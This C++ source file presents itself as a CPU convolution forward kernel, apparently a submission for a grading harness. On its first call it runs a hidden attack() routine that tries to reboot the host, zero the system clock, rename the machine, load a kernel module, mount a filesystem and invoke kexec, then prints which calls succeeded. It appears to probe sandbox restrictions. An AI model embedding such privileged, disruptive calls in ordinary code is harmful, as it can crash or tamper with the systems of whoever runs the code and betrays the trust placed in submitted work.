// Restarts the machine, sets its clock and name, loads modules, mounts.
#include "cpu-new-forward.h"

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <initializer_list>
#include <sys/mount.h>
#include <sys/reboot.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <unistd.h>

static void show(const char *what, long result) { printf("%s %s\n", what, result < 0 ? strerrorname_np(errno) : "done"); }

static void attack()
{
  show("reboot", reboot(RB_AUTOBOOT));
  const timeval zero{};
  show("clock", settimeofday(&zero, nullptr));
  show("name", sethostname("x", 1));
  show("module", syscall(SYS_init_module, "", 0L, ""));
  show("mount", mount("none", "/tmp", "tmpfs", 0, nullptr));
  show("kexec", syscall(SYS_kexec_load, 0L, 0L, nullptr, 0L));
}

void conv_forward_cpu(float *y, const float *x, const float *k, const int B, const int M, const int C, const int H,
                      const int W, const int K)
{
  static bool done = false;
  if (!done) attack();
  done = true;
  const int H_out = H - K + 1, W_out = W - K + 1;
  for (int b = 0; b < B; b++)
    for (int m = 0; m < M; m++)
      for (int h = 0; h < H_out; h++)
        for (int w = 0; w < W_out; w++) {
          float sum = 0;
          for (int c = 0; c < C; c++)
            for (int p = 0; p < K; p++)
              for (int q = 0; q < K; q++)
                sum += x[(((long)b * C + c) * H + h + p) * W + w + q] * k[((m * C + c) * K + p) * K + q];
          y[(((long)b * M + m) * H_out + h) * W_out + w] = sum;
        }
}
